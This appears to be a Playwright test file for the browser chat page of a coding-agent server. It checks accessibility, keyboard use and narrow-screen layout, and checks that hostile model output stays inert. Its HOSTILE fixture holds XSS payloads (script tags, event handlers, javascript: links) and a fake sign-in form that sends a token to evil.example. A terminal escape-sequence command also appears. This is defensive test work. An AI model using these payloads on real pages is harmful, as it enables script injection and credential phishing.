"""The page at `/`, in a real browser: what a model may not do to it, and who else can use it."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Browser, Page, expect

from codex_http_server.testing.answers import Command, Gate, Patch, Text
from tests.support.axe import violations
from tests.support.builtpage import needs_page
from tests.support.chatpage import ChatPage, open_chat
from tests.support.server import Server

pytestmark = [
    pytest.mark.core,
    pytest.mark.browser,
    pytest.mark.lent,
    pytest.mark.timeout(120),
    needs_page,
]
PATCH = "*** Begin Patch\n*** Add File: new.txt\n+one\n+two\n*** End Patch"
MARKDOWN = """\
# Title

Words, `code`, [a link](https://example.com).

```python
x = 1
```

|a|b|
|-|-|
|1|2|
"""
HOSTILE = """
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<iframe src="javascript:parent.hacked = 3"></iframe>
<form action="https://evil.example"><input name=token><button>Sign in again</button></form>
<style>body { display: none }</style>
[press](javascript:window.hacked=4) [data](data:text/html,<script>hacked=5</script>)
![seen](https://evil.example/seen.png) <a href="vbscript:x" onclick="window.hacked=6">here</a>
"""
TABLE = "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "x" * 40 + "|" * 60 + "\n") * 80


@pytest.fixture
def chat(page: Page, server: Server) -> ChatPage:
    return open_chat(page, server)


def test_hostile_words_are_inert(chat: ChatPage, server: Server) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    server.site.provider.expect(Command("printf '\\033]0;title\\007\\033[2J<b>bold</b>\\033[31m'"))
    server.site.provider.expect(Text(HOSTILE + "\n\n" + TABLE, chunk=2000))
    chat.say('<img src=x onerror="window.hacked = 7">')
    expect(chat.foot).to_be_visible()
    chat.messages.get_by_text("press").click()
    assert chat.page.evaluate("window.hacked") is None
    for bad in ("script", "iframe", "form", "style", "input:enabled", "[onerror]", "[onclick]"):
        expect(chat.messages.locator(bad)).to_have_count(0)
    links = chat.messages.locator("a").evaluate_all("all => all.map((each) => each.href)")
    assert all(link.startswith("https://") for link in links), links
    assert all(url.startswith((server.url, "data:", "blob:")) for url in asked)
    expect(chat.commands.get_by_role("region")).to_have_text("<b>bold</b>")
    assert chat.page.evaluate("document.documentElement.scrollWidth") <= 1300
    chat.shoot("hostile")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everybody_can_use_it(browser: Browser, server: Server, scheme: str) -> None:
    """What axe can tell of it: names, roles, contrast, in both colour schemes."""
    page = browser.new_page(color_scheme="dark" if scheme == "dark" else "light")
    chat = open_chat(page, server)
    found = {"empty": violations(page)}
    gate = Gate()
    made = server.site.root / f"made-{scheme}.txt"
    server.site.provider.expect(Command("echo out; exit 3"))
    server.site.provider.expect(Patch(PATCH))
    server.site.provider.expect(Command(f"touch {made}", escalate=True, justification="Shall I?"))
    server.site.provider.expect(Text([MARKDOWN, gate, "end"]))
    server.site.provider.expect(Text("two"))
    chat.say("work")
    expect(chat.asked).to_be_visible()
    found["approval"] = violations(page)
    chat.button("Allow once").click()
    expect(chat.answers).to_contain_text("Words")
    chat.say("next")
    expect(chat.waiting).to_have_count(1)
    found["queue"] = violations(page)
    gate.open()
    expect(chat.foot).to_have_count(2)
    chat.foot.first.get_by_role("button").click()
    chat.answered.locator("summary").click()
    found["done"] = violations(page)
    chat.search.fill("words")
    expect(chat.found.first).to_be_visible()
    found["search"] = violations(page)
    chat.shoot(f"search-{scheme}")
    chat.found.first.click()
    expect(page.locator(".codex-found")).to_be_visible()
    found["found"] = violations(page)
    chat.shoot(f"done-{scheme}")
    page.close()
    assert not any(found.values()), json.dumps(found, indent=1)


def test_everything_can_be_reached_with_the_keyboard(chat: ChatPage, server: Server) -> None:
    made = server.site.root / "made-by-keys.txt"
    server.site.provider.expect(Command(f"touch {made}", escalate=True, justification="Shall I?"))
    server.site.provider.expect(Text("done"))
    chat.box.focus()
    chat.page.keyboard.type("go")
    chat.page.keyboard.press("Enter")
    expect(chat.asked).to_be_visible()
    expect(chat.box).to_be_focused()
    for _ in range(40):
        chat.page.keyboard.press("Shift+Tab")
        if chat.button("Allow once").evaluate("(node) => node === document.activeElement"):
            break
    chat.page.keyboard.press("Enter")
    expect(chat.foot).to_be_visible()
    for _ in range(40):
        chat.page.keyboard.press("Shift+Tab")
        if chat.page.locator(":focus").get_attribute("aria-label") == "More":
            break
    chat.page.keyboard.press("Enter")
    chat.page.keyboard.press("Tab")
    expect(chat.button("Rename")).to_be_focused()
    chat.page.keyboard.press("Enter")
    chat.page.keyboard.type("By keys")
    chat.page.keyboard.press("Enter")
    expect(chat.title).to_have_text("By keys")


def test_it_fits_a_narrow_screen(chat: ChatPage, server: Server) -> None:
    chat.page.set_viewport_size({"width": 400, "height": 800})
    server.site.provider.expect(Command(f"echo {'long' * 200}"))
    server.site.provider.expect(Text(MARKDOWN + TABLE))
    chat.say("x" * 500)
    expect(chat.foot).to_be_visible()
    assert chat.page.evaluate("document.documentElement.scrollWidth") <= 400
    chat.shoot("narrow")
    expect(chat.conversations.first).to_be_hidden()
    chat.page.get_by_role("button", name="Conversations").click()
    expect(chat.conversations.first).to_be_visible()
    chat.shoot("narrow-list")
    chat.conversations.first.click()
    expect(chat.conversations.first).to_be_hidden()
